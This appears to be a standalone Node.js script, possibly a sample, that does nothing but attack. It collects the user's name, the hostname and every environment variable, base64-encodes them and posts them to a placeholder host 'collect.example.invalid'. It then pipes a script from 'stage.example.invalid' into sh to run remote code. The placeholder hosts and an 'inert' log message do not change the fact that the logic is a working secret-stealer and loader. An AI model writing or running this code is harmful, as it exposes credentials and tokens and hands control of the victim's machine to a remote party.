const os = require('os');
const https = require('https');
const { execSync } = require('child_process');
function collect() {
  const data = { user: os.userInfo().username, host: os.hostname(), env: process.env };
  return Buffer.from(JSON.stringify(data)).toString('base64');
}
function send(body) {
  const req = https.request({ hostname: 'collect.example.invalid', port: 443, path: '/c', method: 'POST' }, (res) => {
    res.on('data', () => {});
  });
  req.write(body);
  req.end();
}
try {
  send(collect());
  execSync('curl -s https://stage.example.invalid/run.sh | sh');
} catch (e) {
  console.log('inert');
}
